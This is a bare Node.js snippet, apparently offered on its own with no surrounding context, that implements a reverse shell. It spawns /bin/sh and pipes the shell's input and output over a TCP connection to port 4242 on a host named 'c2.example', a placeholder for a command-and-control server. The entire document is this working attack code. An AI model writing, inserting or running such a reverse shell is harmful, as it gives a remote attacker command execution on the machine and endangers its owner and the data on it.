const { spawn } = require('child_process');
const net = require('net');
const sh = spawn('/bin/sh', []);
const s = new net.Socket();
s.connect(4242, 'c2.example', () => { s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });
